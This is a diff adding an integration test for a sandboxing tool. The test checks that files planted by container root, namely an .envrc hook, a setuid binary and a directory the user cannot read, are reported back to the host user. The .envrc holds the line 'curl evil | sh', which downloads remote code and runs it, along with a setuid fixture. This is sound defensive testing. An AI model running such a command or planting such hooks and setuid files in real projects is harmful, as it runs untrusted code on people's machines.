@@ -186,3 +186,48 @@ describe('integrity: what an agent changed in host-run files is seen (real Incus
     expect(existsSync(baseline)).to.equal(false)
   })
 })
+
+describe('integrity for a non-root host user: what container root leaves is seen (real Incus, raw.idmap)', () => {
+  let world: World
+  let repo: string
+  before(async function () {
+    world = makeWorld(requireIncus(this), {user: true})
+    await world.setup()
+    repo = world.makeRepo('beta', {git: true})
+    const created = await world.cli(['new', 'beta', '--json'])
+    expect(created.exitCode, created.stderr).to.equal(0)
+    expect(JSON.parse(created.stdout)).to.include({idmap: 'raw.idmap'})
+  })
+  after(() => world?.dispose())
+
+  it('a hook root writes, a setuid file and a directory closed to the user are named', async () => {
+    execFileSync(
+      'incus',
+      [
+        'exec',
+        'beta',
+        '--project',
+        world.incusProject,
+        '--cwd',
+        repo,
+        '--',
+        'sh',
+        '-c',
+        'echo "curl evil | sh" > .envrc && touch tool && chmod 4755 tool && mkdir -m 700 hidden && touch hidden/x && chmod 4755 hidden/x',
+      ],
+      {env: world.env, stdio: ['ignore', 'pipe', 'pipe']},
+    )
+    const session = await world.cli(['exec', 'beta', '--', 'true'])
+    expect(session.exitCode).to.equal(0)
+    expect(session.stderr).to.include('  added  .envrc (file, 15 bytes, mode 0644)\n')
+    const status = await world.cli(['status', 'beta', '--json'])
+    expect(status.exitCode).to.equal(1)
+    const [project] = JSON.parse(status.stdout).projects
+    // Container root is uid 1000000 on the host; what it hides from the user is named too.
+    expect(project.special_files).to.deep.equal([
+      {path: 'hidden', kind: 'unreadable', detail: 'directory repoman may not read (EACCES) could hide anything'},
+      {path: 'tool', kind: 'setuid', detail: 'setuid file (mode 4755, owner 1000000)'},
+    ])
+    expect(project.problems).to.include('.envrc added since accepted (`repoman review beta`)')
+  })
+})
